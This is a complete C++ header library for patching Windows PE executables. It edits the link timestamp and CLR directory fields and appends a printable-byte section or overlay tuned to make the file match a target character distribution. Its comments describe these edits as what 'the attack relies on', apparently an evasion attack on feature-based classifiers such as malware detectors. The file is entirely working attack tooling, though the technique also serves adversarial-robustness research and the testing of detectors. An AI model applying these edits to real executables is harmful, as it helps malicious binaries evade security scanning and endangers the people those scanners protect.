#pragma once

// Minimal PE32 / PE32+ reader and patcher for the three header edits the
// attack relies on (link timestamp, CLR directory size and address) and for
// appending a printable-character buffer as a section or as overlay.
// Field offsets follow the published PE/COFF layout.

#include <algorithm>
#include <array>
#include <cmath>
#include <cstddef>
#include <cstdint>
#include <cstring>
#include <fstream>
#include <iterator>
#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "xea/error.hpp"

namespace xea::pe {

enum class ParseErrorCode : std::uint8_t {
  truncated,
  bad_dos_magic,
  bad_pe_signature,
  bad_optional_magic,
  bad_alignment,
  section_out_of_bounds,
};

inline std::string_view to_string(ParseErrorCode c) {
  switch (c) {
    case ParseErrorCode::truncated: return "truncated";
    case ParseErrorCode::bad_dos_magic: return "bad_dos_magic";
    case ParseErrorCode::bad_pe_signature: return "bad_pe_signature";
    case ParseErrorCode::bad_optional_magic: return "bad_optional_magic";
    case ParseErrorCode::bad_alignment: return "bad_alignment";
    case ParseErrorCode::section_out_of_bounds: return "section_out_of_bounds";
  }
  return "?";
}

class ParseError : public FormatError {
 public:
  ParseError(ParseErrorCode code, const std::string& msg)
      : FormatError("PE parse error (" + std::string(to_string(code)) + "): " + msg), code_(code) {}
  ParseErrorCode code() const { return code_; }

 private:
  ParseErrorCode code_;
};

/// The image has no room for the requested structural edit.
class LayoutError : public Error {
 public:
  using Error::Error;
};

/// A buffer would exceed its size cap.
class CapacityError : public Error {
 public:
  CapacityError(std::size_t required, std::size_t cap)
      : Error("printable buffer needs " + std::to_string(required) + " bytes, cap is " + std::to_string(cap)),
        required_(required) {}
  std::size_t required() const { return required_; }

 private:
  std::size_t required_;
};

enum class Format : std::uint8_t { pe32, pe32plus };

inline constexpr std::uint16_t kMagicPe32 = 0x10b;
inline constexpr std::uint16_t kMagicPe32Plus = 0x20b;
inline constexpr std::size_t kSectionHeaderSize = 40;
inline constexpr std::size_t kClrDirectoryIndex = 14;
inline constexpr std::uint32_t kNewSectionCharacteristics = 0x40000040;  // initialized data, readable

// Offsets inside the optional header.
inline constexpr std::size_t kOptSectionAlignment = 32;
inline constexpr std::size_t kOptFileAlignment = 36;
inline constexpr std::size_t kOptSizeOfImage = 56;
inline constexpr std::size_t kOptSizeOfHeaders = 60;
inline constexpr std::size_t kOptCheckSum = 64;

inline std::size_t rva_count_offset(Format f) { return f == Format::pe32 ? 92 : 108; }
inline std::size_t data_directory_offset(Format f) { return f == Format::pe32 ? 96 : 112; }

struct SectionHeader {
  std::string name;
  std::uint32_t virtual_size = 0;
  std::uint32_t virtual_address = 0;
  std::uint32_t raw_size = 0;
  std::uint32_t raw_pointer = 0;
  std::uint32_t characteristics = 0;
};

namespace detail {

inline std::uint16_t rd16(std::span<const std::uint8_t> b, std::size_t at) {
  return static_cast<std::uint16_t>(b[at] | (b[at + 1] << 8));
}

inline std::uint32_t rd32(std::span<const std::uint8_t> b, std::size_t at) {
  return static_cast<std::uint32_t>(b[at]) | (static_cast<std::uint32_t>(b[at + 1]) << 8) |
         (static_cast<std::uint32_t>(b[at + 2]) << 16) | (static_cast<std::uint32_t>(b[at + 3]) << 24);
}

inline void wr16(std::vector<std::uint8_t>& b, std::size_t at, std::uint16_t v) {
  b[at] = static_cast<std::uint8_t>(v);
  b[at + 1] = static_cast<std::uint8_t>(v >> 8);
}

inline void wr32(std::vector<std::uint8_t>& b, std::size_t at, std::uint32_t v) {
  for (int k = 0; k < 4; ++k) b[at + static_cast<std::size_t>(k)] = static_cast<std::uint8_t>(v >> (8 * k));
}

inline bool is_pow2(std::uint32_t v) { return v != 0 && (v & (v - 1)) == 0; }

inline std::uint64_t align_up(std::uint64_t v, std::uint64_t a) { return (v + a - 1) / a * a; }

}  // namespace detail

/// Parsed view over an owned byte buffer. Treat as immutable; every patch
/// returns a new image.
class PeImage {
 public:
  const std::vector<std::uint8_t>& bytes() const { return bytes_; }
  Format format() const { return format_; }
  std::size_t e_lfanew() const { return e_lfanew_; }
  std::size_t coff_header_offset() const { return e_lfanew_ + 4; }
  std::size_t timedate_stamp_offset() const { return e_lfanew_ + 8; }
  std::size_t optional_header_offset() const { return opt_; }
  std::size_t optional_header_size() const { return opt_size_; }
  std::size_t data_directory_offset() const { return opt_ + pe::data_directory_offset(format_); }
  std::size_t n_data_directories() const { return n_dirs_; }
  std::size_t section_table_offset() const { return opt_ + opt_size_; }
  std::size_t n_sections() const { return sections_.size(); }
  const std::vector<SectionHeader>& sections() const { return sections_; }
  std::uint32_t file_alignment() const { return file_alignment_; }
  std::uint32_t section_alignment() const { return section_alignment_; }

  std::uint32_t timedate_stamp() const { return detail::rd32(bytes_, timedate_stamp_offset()); }
  std::uint32_t size_of_image() const { return detail::rd32(bytes_, opt_ + kOptSizeOfImage); }
  std::uint32_t size_of_headers() const { return detail::rd32(bytes_, opt_ + kOptSizeOfHeaders); }
  std::uint32_t checksum() const { return detail::rd32(bytes_, opt_ + kOptCheckSum); }

  /// Offset of data directory `index`, or nullopt if the table is too short.
  std::optional<std::size_t> directory_entry_offset(std::size_t index) const {
    if (index >= n_dirs_) return std::nullopt;
    return data_directory_offset() + 8 * index;
  }

  /// (virtual address, size) of the CLR runtime directory.
  std::optional<std::pair<std::uint32_t, std::uint32_t>> clr_directory() const {
    const auto at = directory_entry_offset(kClrDirectoryIndex);
    if (!at) return std::nullopt;
    return std::pair{detail::rd32(bytes_, *at), detail::rd32(bytes_, *at + 4)};
  }

  friend PeImage parse(std::vector<std::uint8_t> bytes);

 private:
  std::vector<std::uint8_t> bytes_;
  Format format_ = Format::pe32;
  std::size_t e_lfanew_ = 0;
  std::size_t opt_ = 0;
  std::size_t opt_size_ = 0;
  std::size_t n_dirs_ = 0;
  std::uint32_t file_alignment_ = 0;
  std::uint32_t section_alignment_ = 0;
  std::vector<SectionHeader> sections_;
};

inline PeImage parse(std::vector<std::uint8_t> bytes) {
  using detail::rd16;
  using detail::rd32;
  const std::span<const std::uint8_t> b(bytes);
  if (b.size() < 64) throw ParseError(ParseErrorCode::truncated, "file is shorter than a DOS header");
  if (b[0] != 'M' || b[1] != 'Z') throw ParseError(ParseErrorCode::bad_dos_magic, "missing MZ magic");

  PeImage img;
  img.e_lfanew_ = rd32(b, 0x3C);
  const std::size_t sig = img.e_lfanew_;
  if (sig > b.size() || b.size() - sig < 4 || b[sig] != 'P' || b[sig + 1] != 'E' || b[sig + 2] != 0 ||
      b[sig + 3] != 0) {
    throw ParseError(ParseErrorCode::bad_pe_signature, "no PE\\0\\0 signature at e_lfanew");
  }
  const std::size_t coff = sig + 4;
  if (b.size() - coff < 20) throw ParseError(ParseErrorCode::truncated, "COFF header cut short");
  const std::size_t n_sections = rd16(b, coff + 2);
  img.opt_size_ = rd16(b, coff + 16);
  img.opt_ = coff + 20;
  if (img.opt_size_ < 2 || b.size() - img.opt_ < img.opt_size_) {
    throw ParseError(ParseErrorCode::truncated, "optional header cut short");
  }
  const auto magic = rd16(b, img.opt_);
  if (magic == kMagicPe32) {
    img.format_ = Format::pe32;
  } else if (magic == kMagicPe32Plus) {
    img.format_ = Format::pe32plus;
  } else {
    throw ParseError(ParseErrorCode::bad_optional_magic, "unknown optional header magic");
  }
  const std::size_t dir_at = data_directory_offset(img.format_);
  if (img.opt_size_ < dir_at) throw ParseError(ParseErrorCode::truncated, "optional header too small");
  img.n_dirs_ = rd32(b, img.opt_ + rva_count_offset(img.format_));
  if (img.n_dirs_ > (img.opt_size_ - dir_at) / 8) {
    throw ParseError(ParseErrorCode::truncated, "data directory table exceeds the optional header");
  }
  img.section_alignment_ = rd32(b, img.opt_ + kOptSectionAlignment);
  img.file_alignment_ = rd32(b, img.opt_ + kOptFileAlignment);
  if (!detail::is_pow2(img.file_alignment_) || !detail::is_pow2(img.section_alignment_)) {
    throw ParseError(ParseErrorCode::bad_alignment, "alignment is not a power of two");
  }

  const std::size_t table = img.opt_ + img.opt_size_;
  if ((b.size() - table) / kSectionHeaderSize < n_sections) {
    throw ParseError(ParseErrorCode::truncated, "section table cut short");
  }
  for (std::size_t k = 0; k < n_sections; ++k) {
    const std::size_t at = table + k * kSectionHeaderSize;
    SectionHeader s;
    const auto* name = reinterpret_cast<const char*>(&b[at]);
    s.name.assign(name, strnlen(name, 8));
    s.virtual_size = rd32(b, at + 8);
    s.virtual_address = rd32(b, at + 12);
    s.raw_size = rd32(b, at + 16);
    s.raw_pointer = rd32(b, at + 20);
    s.characteristics = rd32(b, at + 36);
    if (static_cast<std::uint64_t>(s.raw_pointer) + s.raw_size > b.size()) {
      throw ParseError(ParseErrorCode::section_out_of_bounds, "section '" + s.name + "' raw data lies outside the file");
    }
    img.sections_.push_back(std::move(s));
  }
  img.bytes_ = std::move(bytes);
  return img;
}

inline PeImage parse(std::span<const std::uint8_t> bytes) { return parse(std::vector<std::uint8_t>(bytes.begin(), bytes.end())); }

inline std::vector<std::uint8_t> read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw IoError("cannot open " + path);
  return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

inline void write_file(const std::string& path, std::span<const std::uint8_t> bytes) {
  std::ofstream out(path, std::ios::binary);
  if (!out) throw IoError("cannot write " + path);
  out.write(reinterpret_cast<const char*>(bytes.data()), static_cast<std::streamsize>(bytes.size()));
  if (!out) throw IoError("write failed for " + path);
}

// ---- header edits ---------------------------------------------------------
// These touch only their own field. The checksum is left as is: the loader
// checks it for drivers only.

inline PeImage patch_timedate_stamp(const PeImage& img, std::uint32_t value) {
  auto b = img.bytes();
  detail::wr32(b, img.timedate_stamp_offset(), value);
  return parse(std::move(b));
}

/// Caller asserts the image does not link mscoree.dll.
inline PeImage patch_clr_fields(const PeImage& img, std::uint32_t size, std::uint32_t va) {
  const auto at = img.directory_entry_offset(kClrDirectoryIndex);
  if (!at) {
    throw LayoutError("optional header has " + std::to_string(img.n_data_directories()) +
                      " data directories, the CLR entry is index 14");
  }
  auto b = img.bytes();
  detail::wr32(b, *at, va);
  detail::wr32(b, *at + 4, size);
  return parse(std::move(b));
}

// ---- appends --------------------------------------------------------------

inline PeImage append_overlay(const PeImage& img, std::span<const std::uint8_t> content) {
  auto b = img.bytes();
  b.insert(b.end(), content.begin(), content.end());
  return parse(std::move(b));
}

/// Adds a section holding `content` after the last one. Needs a free
/// 40-byte slot between the section table and the first section's data;
/// existing data is never moved. Zeroes the checksum.
inline PeImage append_section(const PeImage& img, std::string_view name, std::span<const std::uint8_t> content) {
  if (name.size() > 8) throw ArgumentError("section name longer than 8 bytes");
  if (content.empty()) throw ArgumentError("section content is empty");

  const std::size_t table_end = img.section_table_offset() + img.n_sections() * kSectionHeaderSize;
  std::uint64_t first_raw = img.size_of_headers();
  for (const auto& s : img.sections()) {
    if (s.raw_size > 0) first_raw = std::min<std::uint64_t>(first_raw, s.raw_pointer);
  }
  if (table_end + kSectionHeaderSize > first_raw) {
    throw LayoutError("no room for another section header (table ends at " + std::to_string(table_end) +
                      ", headers end at " + std::to_string(first_raw) + ")");
  }
  if (img.n_sections() >= 0xFFFF) throw LayoutError("section count would overflow");

  const std::uint64_t fa = img.file_alignment();
  const std::uint64_t sa = img.section_alignment();
  std::uint64_t va_end = detail::align_up(img.size_of_headers(), sa);
  for (const auto& s : img.sections()) {
    va_end = std::max<std::uint64_t>(va_end, static_cast<std::uint64_t>(s.virtual_address) +
                                                 std::max(s.virtual_size, s.raw_size));
  }
  const std::uint64_t va = detail::align_up(va_end, sa);
  const std::uint64_t raw_ptr = detail::align_up(img.bytes().size(), fa);
  const std::uint64_t raw_size = detail::align_up(content.size(), fa);
  const std::uint64_t image_size = detail::align_up(va + content.size(), sa);
  if (raw_ptr + raw_size > 0xFFFFFFFFull || image_size > 0xFFFFFFFFull) throw LayoutError("image would exceed 4 GiB");

  auto b = img.bytes();
  b.resize(static_cast<std::size_t>(raw_ptr), 0);
  b.insert(b.end(), content.begin(), content.end());
  b.resize(static_cast<std::size_t>(raw_ptr + raw_size), 0);

  const std::size_t at = table_end;
  std::fill(b.begin() + static_cast<std::ptrdiff_t>(at), b.begin() + static_cast<std::ptrdiff_t>(at + kSectionHeaderSize), 0);
  std::memcpy(&b[at], name.data(), name.size());
  detail::wr32(b, at + 8, static_cast<std::uint32_t>(content.size()));
  detail::wr32(b, at + 12, static_cast<std::uint32_t>(va));
  detail::wr32(b, at + 16, static_cast<std::uint32_t>(raw_size));
  detail::wr32(b, at + 20, static_cast<std::uint32_t>(raw_ptr));
  detail::wr32(b, at + 36, kNewSectionCharacteristics);

  const std::size_t opt = img.optional_header_offset();
  detail::wr16(b, img.coff_header_offset() + 2, static_cast<std::uint16_t>(img.n_sections() + 1));
  detail::wr32(b, opt + kOptSizeOfImage, static_cast<std::uint32_t>(image_size));
  const auto headers = std::max<std::uint64_t>(img.size_of_headers(), detail::align_up(table_end + kSectionHeaderSize, fa));
  detail::wr32(b, opt + kOptSizeOfHeaders, static_cast<std::uint32_t>(headers));
  detail::wr32(b, opt + kOptCheckSum, 0);
  return parse(std::move(b));
}

// ---- printable-character distribution ------------------------------------

inline constexpr std::size_t kPrintableCount = 96;  // bytes 0x20 .. 0x7F
inline constexpr std::size_t kDefaultBufferCap = 4u << 20;
inline constexpr double kDistributionTolerance = 0.01;

using PrintableCounts = std::array<std::uint64_t, kPrintableCount>;
using PrintableDistribution = std::array<double, kPrintableCount>;

struct CharDistributionTarget {
  PrintableDistribution histogram{};
  std::size_t buffer_size_cap = kDefaultBufferCap;
};

inline PrintableCounts count_printable(std::span<const std::uint8_t> bytes) {
  PrintableCounts c{};
  for (auto v : bytes) {
    if (v >= 0x20 && v <= 0x7F) ++c[v - 0x20];
  }
  return c;
}

/// All zeros when nothing printable is present.
inline PrintableDistribution printable_distribution(const PrintableCounts& c) {
  PrintableDistribution d{};
  std::uint64_t total = 0;
  for (auto v : c) total += v;
  if (total == 0) return d;
  for (std::size_t k = 0; k < kPrintableCount; ++k) d[k] = static_cast<double>(c[k]) / static_cast<double>(total);
  return d;
}

inline double l1_distance(const PrintableDistribution& a, const PrintableDistribution& b) {
  double s = 0.0;
  for (std::size_t k = 0; k < kPrintableCount; ++k) s += std::abs(a[k] - b[k]);
  return s;
}

inline void validate_target(const CharDistributionTarget& t) {
  double sum = 0.0;
  for (double v : t.histogram) {
    if (!(v >= 0.0) || !std::isfinite(v)) throw ArgumentError("target histogram has a negative or non-finite entry");
    sum += v;
  }
  if (std::abs(sum - 1.0) > 1e-9) throw ArgumentError("target histogram does not sum to 1");
  if (t.buffer_size_cap > kDefaultBufferCap) throw ArgumentError("buffer cap above 4 MiB");
}

/// Parses 96 comma-separated decimals.
inline CharDistributionTarget parse_target(std::string_view text) {
  CharDistributionTarget t;
  std::size_t k = 0;
  std::string cell;
  auto flush = [&] {
    const auto first = cell.find_first_not_of(" \t\r\n");
    if (first == std::string::npos) {
      cell.clear();
      return;
    }
    const auto last = cell.find_last_not_of(" \t\r\n");
    const std::string s = cell.substr(first, last - first + 1);
    if (k >= kPrintableCount) throw FormatError("target distribution has more than 96 values");
    try {
      std::size_t used = 0;
      t.histogram[k] = std::stod(s, &used);
      if (used != s.size()) throw FormatError("bad value '" + s + "' in target distribution");
    } catch (const std::logic_error&) {
      throw FormatError("bad value '" + s + "' in target distribution");
    }
    ++k;
    cell.clear();
  };
  for (char ch : text) {
    if (ch == ',') flush();
    else cell.push_back(ch);
  }
  flush();
  if (k != kPrintableCount) throw FormatError("target distribution needs 96 values, got " + std::to_string(k));
  validate_target(t);
  return t;
}

namespace detail {

// Buffer counts aimed at a combined total of current + n.
inline PrintableCounts buffer_counts_for(const PrintableCounts& current, const PrintableDistribution& target,
                                         std::uint64_t n) {
  std::uint64_t total = n;
  for (auto v : current) total += v;
  PrintableCounts b{};
  for (std::size_t k = 0; k < kPrintableCount; ++k) {
    const double want = std::round(static_cast<double>(total) * target[k] - static_cast<double>(current[k]));
    b[k] = want > 0.0 ? static_cast<std::uint64_t>(want) : 0;
  }
  return b;
}

inline std::pair<bool, std::uint64_t> buffer_fits(const PrintableCounts& current, const PrintableDistribution& target,
                                                  std::uint64_t n) {
  const auto b = buffer_counts_for(current, target, n);
  PrintableCounts combined{};
  std::uint64_t size = 0;
  for (std::size_t k = 0; k < kPrintableCount; ++k) {
    combined[k] = current[k] + b[k];
    size += b[k];
  }
  return {l1_distance(printable_distribution(combined), target) <= kDistributionTolerance, size};
}

}  // namespace detail

/// Smallest printable buffer (found by geometric growth then bisection on
/// the planned size) whose addition brings the printable histogram within
/// L1 0.01 of the target.
inline std::vector<std::uint8_t> build_printable_buffer(const PrintableCounts& current,
                                                        const CharDistributionTarget& target) {
  validate_target(target);
  std::uint64_t cur_total = 0;
  for (auto v : current) cur_total += v;
  if (cur_total > 0 && l1_distance(printable_distribution(current), target.histogram) <= kDistributionTolerance) {
    return {};
  }

  std::uint64_t hi = 1;
  constexpr std::uint64_t kSearchLimit = std::uint64_t{1} << 40;
  while (!detail::buffer_fits(current, target.histogram, hi).first) {
    if (hi >= kSearchLimit) throw CapacityError(static_cast<std::size_t>(kSearchLimit), target.buffer_size_cap);
    hi *= 2;
  }
  std::uint64_t lo = hi / 2;  // lo does not fit (or is zero)
  while (hi - lo > 1) {
    const std::uint64_t mid = lo + (hi - lo) / 2;
    if (detail::buffer_fits(current, target.histogram, mid).first) hi = mid;
    else lo = mid;
  }
  const auto counts = detail::buffer_counts_for(current, target.histogram, hi);
  std::uint64_t size = 0;
  for (auto v : counts) size += v;
  if (size > target.buffer_size_cap) throw CapacityError(static_cast<std::size_t>(size), target.buffer_size_cap);

  std::vector<std::uint8_t> out;
  out.reserve(static_cast<std::size_t>(size));
  for (std::size_t k = 0; k < kPrintableCount; ++k) out.insert(out.end(), counts[k], static_cast<std::uint8_t>(0x20 + k));
  return out;
}

/// Appends a printable buffer as a new section. The new header entry (name,
/// sizes, flags) may itself contain printable bytes, so the buffer is
/// re-planned with those counted until the whole file is within tolerance.
inline PeImage append_printable_section(const PeImage& img, std::string_view name,
                                        const CharDistributionTarget& target) {
  const auto before = count_printable(img.bytes());
  std::array<std::int64_t, kPrintableCount> extra{};
  for (int attempt = 0; attempt < 8; ++attempt) {
    PrintableCounts planned{};
    for (std::size_t k = 0; k < kPrintableCount; ++k) {
      planned[k] = static_cast<std::uint64_t>(std::max<std::int64_t>(0, static_cast<std::int64_t>(before[k]) + extra[k]));
    }
    const auto buffer = build_printable_buffer(planned, target);
    if (buffer.empty()) return img;
    auto out = append_section(img, name, buffer);
    const auto after = count_printable(out.bytes());
    if (l1_distance(printable_distribution(after), target.histogram) <= kDistributionTolerance) return out;
    const auto in_buffer = count_printable(buffer);
    for (std::size_t k = 0; k < kPrintableCount; ++k) {
      extra[k] = static_cast<std::int64_t>(after[k]) - static_cast<std::int64_t>(before[k]) -
                 static_cast<std::int64_t>(in_buffer[k]);
    }
  }
  throw LayoutError("could not settle the printable buffer around the new section header");
}

// ---- patch plans ----------------------------------------------------------

enum class EditKind : std::uint8_t { timedate_stamp, clr_size, clr_virtual_address, append_printable_section, append_overlay };

inline std::string_view to_string(EditKind k) {
  switch (k) {
    case EditKind::timedate_stamp: return "timedate_stamp";
    case EditKind::clr_size: return "clr_size";
    case EditKind::clr_virtual_address: return "clr_virtual_address";
    case EditKind::append_printable_section: return "append_printable_section";
    case EditKind::append_overlay: return "append_overlay";
  }
  return "?";
}

struct Edit {
  EditKind kind = EditKind::timedate_stamp;
  std::uint32_t value = 0;                    // header edits
  std::string section_name;                   // append_printable_section
  std::optional<CharDistributionTarget> target;  // both appends
};

struct PatchPlan {
  std::vector<Edit> edits;
};

/// Applies header edits first, then at most one append. Appended buffers
/// are sized against the printable histogram of the whole file.
inline PeImage apply_plan(const PeImage& img, const PatchPlan& plan) {
  std::array<int, 5> seen{};
  for (const auto& e : plan.edits) {
    if (++seen[static_cast<std::size_t>(e.kind)] > 1) {
      throw ArgumentError("patch plan repeats edit kind " + std::string(to_string(e.kind)));
    }
    if ((e.kind == EditKind::append_printable_section || e.kind == EditKind::append_overlay) && !e.target) {
      throw ArgumentError("append edit needs a target distribution");
    }
  }
  if (seen[static_cast<std::size_t>(EditKind::append_printable_section)] &&
      seen[static_cast<std::size_t>(EditKind::append_overlay)]) {
    throw ArgumentError("a plan may append a section or an overlay, not both");
  }

  PeImage out = img;
  const Edit* clr_size = nullptr;
  const Edit* clr_va = nullptr;
  for (const auto& e : plan.edits) {
    if (e.kind == EditKind::timedate_stamp) out = patch_timedate_stamp(out, e.value);
    if (e.kind == EditKind::clr_size) clr_size = &e;
    if (e.kind == EditKind::clr_virtual_address) clr_va = &e;
  }
  if (clr_size || clr_va) {
    const auto cur = out.clr_directory();
    if (!cur) throw LayoutError("image has no CLR data directory entry");
    out = patch_clr_fields(out, clr_size ? clr_size->value : cur->second, clr_va ? clr_va->value : cur->first);
  }
  for (const auto& e : plan.edits) {
    if (e.kind != EditKind::append_printable_section && e.kind != EditKind::append_overlay) continue;
    const auto buffer = build_printable_buffer(count_printable(out.bytes()), *e.target);
    if (e.kind == EditKind::append_overlay) {
      out = append_overlay(out, buffer);
    } else if (!buffer.empty()) {
      out = append_printable_section(out, e.section_name, *e.target);
    }
  }
  return out;
}

}  // namespace xea::pe
